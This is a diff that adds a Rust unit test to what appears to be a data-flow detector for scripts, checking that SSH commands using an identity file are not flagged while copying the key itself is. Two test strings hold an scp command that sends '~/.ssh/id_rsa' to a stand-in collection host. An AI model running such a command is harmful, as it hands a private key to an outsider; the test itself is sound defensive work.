@@ -433,3 +433,21 @@ fn javascript_request_objects_carry_what_is_written_to_them() {
     let file = "const fs = require('fs');\nconst out = fs.createWriteStream('notes.txt');\nout.write(process.env.NOTES_TOKEN);\n";
     assert!(facts(Lang::Javascript, file).flows.is_empty());
 }
+
+#[test]
+fn an_ssh_identity_file_signs_the_connection_and_is_not_sent() {
+    for code in [
+        "rsync -az -e \"ssh -i $HOME/.ssh/id_ed25519_nas\" \"$HOME/Photos/\" me@nas.local:/backup/\n",
+        "scp -i ~/.ssh/deploy_key build.tgz deploy@web.example.invalid:/srv/\n",
+        "rsync -az -e 'ssh -o IdentityFile=~/.ssh/id_backup' ./site/ me@host.example.invalid:/www/\n",
+    ] {
+        let f = facts(Lang::Shell, code);
+        assert!(f.flows.is_empty(), "{code}: {f:?}");
+    }
+    // The key itself as the file copied out is sent.
+    let f = facts(Lang::Shell, "scp ~/.ssh/id_rsa drop@collect.example.invalid:/k\n");
+    assert_eq!(f.flows.len(), 1, "{f:?}");
+    let f = facts(Lang::Shell, "scp -i ~/.ssh/deploy_key ~/.ssh/id_rsa drop@collect.example.invalid:/k\n");
+    assert_eq!(f.flows.len(), 1, "{f:?}");
+    assert_eq!(f.flows[0].sources.len(), 1, "{f:?}");
+}
